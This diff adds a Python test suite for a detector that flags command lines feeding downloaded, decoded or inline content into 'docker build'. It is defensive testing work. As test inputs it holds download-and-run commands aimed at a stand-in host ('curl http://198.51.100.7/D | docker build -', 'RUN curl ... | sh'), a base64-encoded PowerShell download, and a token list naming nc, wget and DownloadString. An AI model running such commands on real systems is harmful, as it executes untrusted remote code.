@@ -1,0 +1,276 @@
+"""Run the vectors of what builds are fed, and hold the reader to its promises."""
+
+from __future__ import annotations
+
+import gc
+from collections.abc import Iterator
+from typing import Any
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from t1612core.facts.standard_input import MOST_TEXTS, standard_input
+from t1612core.knowledge.feeders import FEEDS
+from t1612core.knowledge.signals.standard_input import SIGNALS
+from t1612core.language.command import LIMIT
+from t1612core.language.escapes import LIMIT as PRINTED
+from t1612core.language.escapes import echoed, printed
+from t1612core.language.feeds import MOST, fed_by_text
+from t1612core.language.grammar import ShellKind, packed
+from t1612core.language.pipelines import pipelines
+from t1612core.language.words import Source
+from t1612core.language.wrappers import DEEPEST
+from t1612core.model import Fact
+
+from .test_growth import LARGEST, SIZE, seconds
+from .test_growth import LIMIT as RATIO
+from .test_vectors import load
+
+URL = "http://198.51.100.7/D"
+VECTORS = load("standard_input")
+PIECES = packed(
+    """sh bash cmd.exe powershell pwsh -c /c -Command sudo curl wget nc -s docker podman build
+    load import - . -f -f- <( ) ( { } | || && & ; < << <<- <<< EOF <<EOF > >( $( ` ' " \\ $'
+    http://198.51.100.7/D https://raw.githubusercontent.com/a 10.0.0.1 echo printf %s %b cat tee
+    base64 -d xxd -r rev gunzip tr openssl python3 b64decode urlopen iwr FromBase64String
+    .DownloadString( FROM RUN alpine \\n \\x46 @' @" U= $U ^ # /c"""
+)
+TEXT = st.text(max_size=30) | st.text(st.characters(codec=None, categories=["Cs", "Cc"]))
+LINES = TEXT | st.lists(
+    st.sampled_from([*sorted(PIECES), "\n", "\r\n", "\t", "\0"]) | TEXT, max_size=24
+).map(" ".join)
+SHELLS = st.sampled_from(
+    ["", "sh -c ", "sh -c '", "bash -c ", "cmd /c ", "powershell -c ", "pwsh "]
+)
+ENDS = st.sampled_from(["", "'", " | docker build -", " | docker build -'"])
+
+
+def facts(line: str, **options: Any) -> list[Fact]:
+    return list(standard_input(line, "command_line", **options))
+
+
+@pytest.mark.parametrize("vector", VECTORS)
+def test_what_a_build_is_fed(vector: dict[str, Any]) -> None:
+    """Each signal once, with what is shown of it."""
+    found = facts(vector["input"], program=vector.get("program", ""))
+
+    assert vector["expected"] == {fact.signal: fact.text for fact in found}
+    assert len(vector["expected"]) == len(found)
+
+
+@pytest.mark.parametrize("vector", VECTORS)
+def test_places_are_in_the_line(vector: dict[str, Any]) -> None:
+    """A URL and a decoder stand at their span, but for what was unquoted twice or put in."""
+    line = vector["input"]
+    is_exact = "$U" not in line and "\\" not in line
+    for fact in facts(line, program=vector.get("program", "")):
+        start, end = fact.span or (-1, -1)
+        stands = line[start:end]
+
+        assert 0 <= start < end <= len(line)
+        if is_exact and "redact" not in fact.text and "inline" not in fact.signal:
+            assert "".join(filter(str.isalnum, fact.text)) == "".join(filter(str.isalnum, stands))
+
+
+def test_every_signal_fires_and_nearly_fires() -> None:
+    """The tag's signal is its own reader's."""
+    ids = {signal.id for signal in SIGNALS} - {"process.official_image_tag"}
+    expected = [param.values[0]["expected"] for param in VECTORS]
+
+    assert ids == {id for each in expected for id in each}
+    assert {} in expected
+
+
+def test_the_field_is_the_one_given() -> None:
+    (fact,) = standard_input(f"sh -c curl {URL} | docker build -", "parent_line")
+
+    assert Fact("process.piped_download", "parent_line", URL, (11, 11 + len(URL))) == fact
+
+
+def test_powershell_that_hides_its_text_is_read() -> None:
+    """The span is the word that was decoded."""
+    import base64
+
+    script = f"iwr {URL} | docker build -"
+    word = base64.b64encode(script.encode("utf-16-le")).decode()
+    line = f"powershell -enc {word}"
+    (fact,) = facts(line)
+
+    assert (URL, (16, len(line))) == (fact.text, fact.span)
+
+
+def test_texts_are_followed_to_a_depth() -> None:
+    """Beyond it a text hands on what it is given, and starts nothing."""
+
+    def nested(depth: int) -> str:
+        script = f"curl {URL} | docker build -"
+        for _ in range(depth):
+            escaped = script.replace("\\", "\\\\").replace("'", "\\'")
+            script = f"sh -c $'{escaped}'"
+        return f"sh\0-c\0{script}"
+
+    assert 1 == len(facts(nested(DEEPEST - 1)))
+    assert [] == facts(nested(DEEPEST))
+
+
+def test_cmd_groups_are_followed_to_a_depth() -> None:
+    line = "cmd /c " + "(" * 99 + "echo FROM alpine" + ")" * 99 + " | docker build -"
+
+    assert ["process.inline_dockerfile"] == [fact.signal for fact in facts(line)]
+
+
+def test_a_line_is_read_up_to_its_limit() -> None:
+    line = f"sh -c '{' ' * LIMIT} curl {URL} | docker build -'"
+
+    assert [] == facts(line)
+    assert 1 == len(facts(line, limit=2 * LIMIT))
+
+
+def test_so_many_things_are_kept_and_no_more() -> None:
+    """A bound on what one flow holds; code is read no further than that either."""
+    urls = " ".join([URL] * (MOST + 9))
+    lines = (
+        f"curl {urls} | docker build -",
+        f"(curl {URL};" * (MOST + 9) + ") | docker build -",
+        f"python3 -c 'urlopen({urls})' | docker build -",
+        "echo a" + " | base64 -d" * (MOST + 9) + " | docker build -",
+    )
+    for line in lines:
+        for fed in fed_by_text("sh", Source(line), FEEDS):
+            assert MOST >= max(len(fed.flow.downloads), len(fed.flow.decoders))
+
+
+def test_so_many_texts_are_scored_and_no_more() -> None:
+    """What is a finding only beyond the bound is not told."""
+    plain = "".join(f"echo FROM a{number} | docker build -;" for number in range(MOST_TEXTS))
+    loud = f"printf 'FROM a\\nRUN curl {URL} | sh\\n' | docker build -;"
+    signals = [
+        [fact.signal for fact in facts(f'sh -c "{text}"')] for text in (loud + plain, plain + loud)
+    ]
+
+    both = ["process.inline_dockerfile", "process.inline_instructions"]
+    assert [both, both[:1]] == signals
+
+
+def test_a_variable_carries_one_script() -> None:
+    """Not one for each of its mentions."""
+    script = (
+        "X=$(curl http://198.51.100.7/D); echo $X $X | docker build - ; echo $X | docker build -"
+    )
+    _, first, second = pipelines("sh", Source(script))
+
+    assert first[0].inner[0].pipelines is first[0].inner[1].pipelines
+    assert first[0].inner[0].pipelines is second[0].inner[0].pipelines
+
+
+def test_print_ends_somewhere() -> None:
+    """A format is used again for each argument."""
+    assert PRINTED == len(printed(["x" * 4096 + "%s", *["y"] * 4096]))
+    assert "ay-\nb-\n" == printed(["%sy-\\n", "a", "b"]).replace("by", "b")
+    assert "a" == echoed(["-n", "a"])
+    assert "" == echoed([])
+
+
+@given(SHELLS, LINES, ENDS, st.sampled_from(["", "sh", "docker", "cmd.exe", "x"]))
+@settings(max_examples=400)
+def test_any_line_gives_facts_inside_it(shell: str, text: str, end: str, program: str) -> None:
+    """Never an error; each signal once; evidence can always be cut out of the line."""
+    line = shell + text + end
+    found = facts(line, program=program)
+
+    assert len({fact.signal for fact in found}) == len(found)
+    for fact in found:
+        start, stop = fact.span or (-1, -1)
+        assert fact.text
+        assert 0 <= start < stop <= len(line)
+
+
+@given(LINES, st.sampled_from(["sh", "cmd", "powershell"]))
+@settings(max_examples=200)
+def test_pipelines_are_inside_the_text(text: str, kind: ShellKind) -> None:
+    """Every stage's words have their places."""
+    for line in pipelines(kind, Source(text)):
+        for stage in line:
+            for index in range(len(stage.words.texts)):
+                start, end = stage.words.span(index)
+                assert 0 <= start <= end <= len(text)
+
+
+SH = "sh -c {} | docker build -"
+GROWING = {
+    "pipes": (SH, "cat|"),
+    "downloads": (SH, f"curl {URL}|"),
+    "decoders": (SH, "echo a|base64 -d|"),
+    "builds": ("sh -c curl {}", "|docker build -"),
+    "fed-builds": ("sh -c echo FROM x | ({})", "docker build -;"),
+    "texts": ("sh -c {}", "echo FROM x|docker build -;"),
+    "growing-texts": ("bash -c {} docker build -", "cat - <(echo FROM a)|tee x|"),
+    "documents": ("bash -c {}", "docker build - <<a\nFROM x\na\n"),
+    "open-documents": ("bash -c {}", "docker build - <<a\n"),
+    "indented-documents": ("bash -c docker build - <<-a\n{}", "\tFROM x\n"),
+    "here-strings": ("bash -c {}", "docker build - <<< FROM;"),
+    "redirections": ("bash -c docker build - {}", "<a "),
+    "single-quotes": (SH, "'a' "),
+    "double-quotes": (SH, '"a" '),
+    "open-quotes": (SH, "'"),
+    "backslashes": (SH, "\\"),
+    "printf-arguments": ("sh -c printf %s {} | docker build -", "a "),
+    "printf-conversions": ("sh -c printf {} | docker build -", "%s"),
+    "echo-escapes": ("sh -c echo '{}' | docker build -", "\\n"),
+    "from": ("sh -c echo '{}' | docker build -", "\\nFROM "),
+    "groups": (SH, "("),
+    "closed-groups": (SH, "(a)|"),
+    "substitutions": (SH, "$(curl a) "),
+    "open-substitutions": (SH, "<("),
+    "files": ("bash -c docker build {}", "-f <(curl a.b/c) "),
+    "carried": ("bash -c X=$(curl a.b/c;a;a;a;a);{}", "echo $X|docker build -;"),
+    "code": ("sh -c python3 -c '{}' | docker build -", "urlopen http://a.b/c "),
+    "code-urls": ("sh -c python3 -c 'urlopen {}' | docker build -", "http://"),
+    "hex-code": ("sh -c node -e '{}' | docker build -", 'Buffer.from("a",'),
+    "dots": ("sh -c http {} | docker build -", "a."),
+    "cmd-pipes": ("cmd /c {}", "a | "),
+    "cmd-groups": ("cmd /c {}", "(a|"),
+    "cmd-echoes": ("cmd /c ({}) | docker build -", "echo a & "),
+    "ps-pipes": ("powershell -c {}", "a | "),
+    "ps-parentheses": ("powershell -c {} | docker build -", "(a)"),
+    "ps-texts": ("powershell -c {} | docker build -", "'a' + "),
+    "ps-here-strings": ("pwsh -c {}", "@'\na\n'@ "),
+    "ps-open-here-strings": ("pwsh -c {}", "@'\n"),
+    "ps-open-double-here-strings": ("pwsh -c {}", 'a@"\n'),
+    "ps-urls": ("pwsh -c .DownloadString {} | docker build -", "http://a "),
+    "operators-only": ("a {}", "|"),
+    "names": ("{}", "powershell"),
+}
+
+
+@pytest.fixture
+def _without_garbage_collection() -> Iterator[None]:
+    gc.collect()
+    gc.disable()
+    yield
+    gc.enable()
+
+
+def growth(name: str, size: int, repeat: int = 3) -> float:
+    pattern, unit = GROWING[name]
+    times = []
+    for length in (size // 2, size):
+        line = pattern.replace("{}", unit * (length // len(unit)))
+        times.append(seconds(lambda line=line: facts(line, limit=2 * LARGEST), repeat))  # type: ignore[misc]  # a default binds the loop variable
+    return times[1] / max(times[0], 0.0005)
+
+
+@pytest.mark.growth
+@pytest.mark.usefixtures("_without_garbage_collection")
+@pytest.mark.parametrize("name", GROWING)
+def test_time_grows_with_the_line(name: str) -> None:
+    """A busy machine may spoil one try, not all."""
+    assert any(growth(name, size) <= RATIO for size in (SIZE, SIZE, 2 * SIZE, SIZE, 2 * SIZE))
+
+
+@pytest.mark.growth
+@pytest.mark.usefixtures("_without_garbage_collection")
+@pytest.mark.parametrize("name", ["pipes", "texts", "documents", "single-quotes", "ps-pipes"])
+def test_time_grows_with_the_line_up_to_a_mebibyte(name: str) -> None:
+    assert any(growth(name, LARGEST, repeat=1) <= RATIO for _ in range(4))
